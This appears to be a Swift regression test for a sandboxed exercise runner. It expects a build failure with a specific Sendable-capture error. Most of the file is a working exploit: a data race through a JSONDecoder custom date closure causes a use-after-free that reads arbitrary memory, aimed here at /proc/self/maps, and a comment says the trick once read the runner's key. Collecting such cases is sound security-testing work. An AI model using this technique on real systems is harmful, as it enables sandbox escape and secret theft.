// Attack (from an eighth break-it pass of issue 30): a JSONDecoder's `.custom` date strategy is a `@Sendable` closure,
// but the API is `@preconcurrency`, so Swift 6 only warns when it captures a class; a detached task that decodes runs
// it on another thread, and the race of 25 reads any address (the pass read the runner's key this way). Exercise
// modules are compiled with the compiler's data-race warnings as errors.
// stage: build
// message: with non-Sendable type 'Holder' in a '@Sendable' closure
import Foundation
import ViewSim

struct Quad { var a = 0, b = 0, c = 0, d = 0 }
final class Victim {
    var p0 = 0, p1 = 0
    var s: String = "placeholder placeholder placeholder"
    var p2 = 0, p3 = 0, p4 = 0, p5 = 0, p6 = 0, p7 = 0
}
final class Holder {
    var arr: [Quad] = [Quad(), Quad()]
    let freed = DispatchSemaphore(value: 0)
    let go = DispatchSemaphore(value: 0)
    var keep: [Victim] = []
}

func poke(_ q: inout Quad, _ h: Holder, _ address: UInt, _ count: Int) -> [UInt8] {
    h.go.signal()
    h.freed.wait()
    q.a = count | (1 << 60)
    q.b = Int(bitPattern: (1 << 63) | (address - 32))
    return Array(h.keep[0].s.utf8)
}

func peek(_ address: UInt, _ count: Int) -> [UInt8] {
    let h = Holder()
    h.keep.reserveCapacity(16)
    // JSONDecoder is Sendable; its .custom date strategy is a closure the compiler only warns about capturing a
    // non-Sendable class in: the decoder carries it to whichever thread decodes.
    let decoder = JSONDecoder()
    decoder.dateDecodingStrategy = .custom { _ in
        h.go.wait(); h.arr = []; h.keep.append(Victim()); h.freed.signal()
        return Date()
    }
    Task.detached { _ = try? decoder.decode([Date].self, from: Data("[0]".utf8)) }
    return poke(&h.arr[0], h, address, count)
}

let report: String = {
    guard let maps = try? String(contentsOfFile: "/proc/self/maps", encoding: .utf8),
          let first = maps.split(separator: "\n").first,
          let start = first.split(separator: "-").first, let address = UInt(start, radix: 16) else { return "no maps" }
    let bytes = peek(address, 16)
    return "first mapping \(first) bytes " + bytes.map { $0 < 16 ? "0\(String($0, radix: 16))" : String($0, radix: 16) }.joined(separator: " ")
}()

struct SessionTally: View {
    @State private var sessions = -1

    var body: some View {
        VStack {
            Text("Sessions today: \(sessions)")
            Button("Log a session") { sessions += 1 }
        }
    }
}

struct FocusScreen: View {
    @State private var showsTally = true

    var body: some View {
        VStack {
            Text("REPORT " + report)
            Toggle("Show tally", isOn: $showsTally)
            if showsTally {
                SessionTally()
            }
        }
    }
}
